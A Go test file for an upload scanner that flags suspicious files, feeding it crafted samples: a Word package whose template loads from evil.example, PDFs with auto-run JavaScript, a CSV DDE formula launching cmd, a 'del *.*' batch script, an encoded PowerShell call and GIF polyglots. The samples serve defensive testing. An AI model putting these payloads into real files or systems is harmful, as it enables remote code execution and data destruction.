package files_test

import (
	"archive/zip"
	"bytes"
	"image"
	"image/gif"
	"slices"
	"strings"
	"testing"

	"minamata.exchange/app/fault"
	"minamata.exchange/app/files"
)

const (
	docx       = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
	attached   = `<Relationships><Relationship Id="1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>`
	hyperlinks = `<Relationships><Relationship Id="1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="http://example.org/" TargetMode="External"/><Relationship Id="2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="embeddings/a.bin"/></Relationships>`
)

// packed is a package with entries of names and contents in turn.
func packed(t *testing.T, entries ...string) []byte {
	t.Helper()
	var out bytes.Buffer
	w := zip.NewWriter(&out)
	for i := 0; i+1 < len(entries); i += 2 {
		part, err := w.Create(entries[i])
		if err != nil {
			t.Fatal(err)
		}
		if _, err := part.Write([]byte(entries[i+1])); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

func word(t *testing.T, more ...string) []byte {
	t.Helper()
	return packed(t, append([]string{"[Content_Types].xml", "<Types/>", "word/document.xml", "<w/>", "_rels/.rels", "<Relationships/>"}, more...)...)
}

// locked says of its only entry that it is encrypted.
func locked(t *testing.T) []byte {
	t.Helper()
	content := packed(t, "report.txt", "words")
	content[6] |= 1                                                // in the entry
	content[bytes.LastIndex(content, []byte("PK\x01\x02"))+8] |= 1 // in the directory
	return content
}

func animation(t *testing.T) []byte {
	t.Helper()
	var out bytes.Buffer
	if err := gif.Encode(&out, image.NewGray(image.Rect(0, 0, 3, 2)), nil); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

// What is taken in and may be more than it says; and what many have, and is not.
func TestSuspicions(t *testing.T) {
	s := store(t)
	pdf := "%PDF-1.7\n1 0 obj << /Type /Catalog "
	for name, c := range map[string]struct {
		file    string
		content []byte
		want    string
	}{
		"a document":                 {"a.docx", word(t), ""},
		"one with links":             {"a.docx", word(t, "word/_rels/document.xml.rels", hyperlinks), ""},
		"one with macros":            {"a.docx", word(t, "word/vbaProject.bin", "x"), "macros"},
		"one of a template far away": {"a.docx", word(t, "word/_rels/settings.xml.rels", attached), "reaching"},
		"one with an object":         {"a.docx", word(t, "word/embeddings/oleObject1.bin", "x"), "reaching"},
		"a package":                  {"a.zip", packed(t, "data/measured.csv", "1,2"), ""},
		"one with a program":         {"a.zip", packed(t, "data/Setup.EXE", "MZ"), "program"},
		"one with a program hidden":  {"a.zip", packed(t, "invoice.pdf.js. ", "x"), "program"},
		"one within another":         {"a.zip", packed(t, "more.zip", "x"), "closed"},
		"one with macros in it":      {"a.zip", packed(t, "a/vbaProject.bin", "x"), "macros"},
		"a locked one":               {"a.zip", locked(t), "closed"},
		"a paper":                    {"a.pdf", []byte(pdf + "/Pages 2 0 R >> endobj %%EOF"), ""},
		"a paper that runs":          {"a.pdf", []byte(pdf + "/OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj %%EOF"), "macros"},
		"a paper that hides it":      {"a.pdf", []byte(pdf + "/OpenAction << /S /J#61va#53cript >> >> endobj %%EOF"), "macros"},
		"a paper with files":         {"a.pdf", []byte(pdf + "/AF << /Type /EmbeddedFile >> >> endobj %%EOF"), "reaching"},
		"a picture":                  {"a.png", picture(t), ""},
		"an animation":               {"a.gif", animation(t), ""},
		"one with a package behind":  {"a.gif", append(animation(t), packed(t, "a.txt", "x")...), "two_kinds"},
		"one with a page in it":      {"a.gif", append(animation(t), []byte("<script>alert(1)</script>")...), "two_kinds"},
		"a text":                     {"a.txt", []byte("Measured at -5 degrees; = sum. See powershell, the tool.\n"), ""},
		"a script":                   {"a.txt", []byte("@echo off\ndel *.*"), "program"},
		"a script in words":          {"a.md", []byte("Run powershell -enc AAAA"), "program"},
		"a table":                    {"a.csv", []byte("site,value\nA,-1\nB,=2\n"), ""},
		"a table that starts things": {"a.csv", []byte("site,value\nA,=cmd|' /C calc'!A0\n"), "reaching"},
		"a name that ends twice":     {"invoice.exe.pdf", []byte(pdf + ">> endobj %%EOF"), "disguised"},
		"a name with a point":        {"v1.2.pdf", []byte(pdf + ">> endobj %%EOF"), ""},
	} {
		file, err := s.Save(c.file, bytes.NewReader(c.content))
		if err != nil {
			t.Errorf("%s is not taken: %v", name, err)
			continue
		}
		if got, err := s.Suspicions(file); err != nil || strings.Join(got, " ") != c.want {
			t.Errorf("%s: %q, %v, wanted %q", name, got, err, c.want)
		}
	}
	if _, err := s.Suspicions(files.File{Digest: strings.Repeat("0", 64)}); !fault.Is(err, fault.NotFound) {
		t.Errorf("what is not there: %v", err)
	}
}

// A package that would unpack to a thousand times its size costs what it weighs.
func TestSuspicionsUnpackNothing(t *testing.T) {
	s := store(t)
	bomb := strings.Repeat("0", 50_000_000)
	file, err := s.Save("a.docx", bytes.NewReader(word(t, "word/_rels/settings.xml.rels", bomb, "word/media/a.bin", bomb)))
	if err != nil {
		t.Fatal(err)
	}
	got, err := s.Suspicions(file)
	if err != nil || slices.Contains(got, files.Program) || file.MediaType != docx {
		t.Errorf("%q, %v, %s", got, err, file.MediaType)
	}
}
